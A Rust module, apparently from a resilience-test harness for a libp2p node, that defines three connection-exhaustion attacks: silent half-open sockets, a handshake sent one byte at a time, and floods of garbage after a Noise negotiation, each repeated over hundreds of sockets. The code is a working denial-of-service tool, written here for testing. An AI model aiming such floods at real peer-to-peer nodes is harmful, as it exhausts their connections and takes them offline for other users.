//! Attack: connections that are never completed.

use crate::peer::line;
use crate::scene::{Attack, AttackReport, SLACK, Target};
use crate::victim::{Random, Victim};
use libp2p::Multiaddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "half-open",
        what: "400 sockets at each door say nothing and come again when they are closed",
        memory: 30,
        descriptors: 160,
        slack: SLACK,
        run: |target| Box::pin(sockets(target, 400, Says::Nothing)),
    },
    Attack {
        name: "slow-handshake",
        what: "200 sockets at each door send a handshake, a byte in half a second",
        memory: 30,
        descriptors: 160,
        slack: SLACK,
        run: |target| Box::pin(sockets(target, 200, Says::Slowly)),
    },
    Attack {
        name: "broken-handshake",
        what: "50 sockets at each door agree to Noise and send garbage, as fast as they can",
        memory: 50,
        descriptors: 160,
        slack: SLACK,
        run: |target| Box::pin(sockets(target, 50, Says::Garbage)),
    },
];

#[derive(Clone, Copy, Debug)]
enum Says {
    Nothing,
    Slowly,
    Garbage,
}

async fn sockets(target: Target, count: usize, says: Says) -> AttackReport {
    let mut attackers = Vec::new();
    for door in [&target.tcp, &target.ws] {
        for seed in 0..count as u64 {
            attackers.push(tokio::spawn(attacker(target.clone(), door.clone(), says, seed)));
        }
    }
    let mut opened = 0;
    for attacker in attackers {
        opened += attacker.await.expect("an attacker does not fail");
    }
    AttackReport { what: format!("{opened} connections were opened"), ..AttackReport::default() }
}

async fn attacker(target: Target, door: Multiaddr, says: Says, seed: u64) -> u64 {
    let address = Victim::socket(&door);
    let mut opened = 0;
    let mut random = Random::new(seed);
    while !target.is_over() {
        let Ok(mut stream) = TcpStream::connect(address).await else { continue };
        opened += 1;
        let hello = [line("/multistream/1.0.0"), line("/noise")].concat();
        // Wait until the node closes the connection.
        match says {
            Says::Nothing => {
                let left = target.until.saturating_duration_since(std::time::Instant::now());
                let _ = timeout(left, stream.read(&mut [0; 1])).await;
            }
            Says::Slowly => {
                for byte in hello {
                    if target.is_over() || stream.write_all(&[byte]).await.is_err() {
                        break;
                    }
                    sleep(Duration::from_millis(500)).await;
                }
            }
            Says::Garbage => {
                let garbage = [hello, random.bytes(70_000)].concat();
                let _ = stream.write_all(&garbage).await;
                let _ = timeout(Duration::from_secs(1), stream.read_to_end(&mut Vec::new())).await;
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
    opened
}
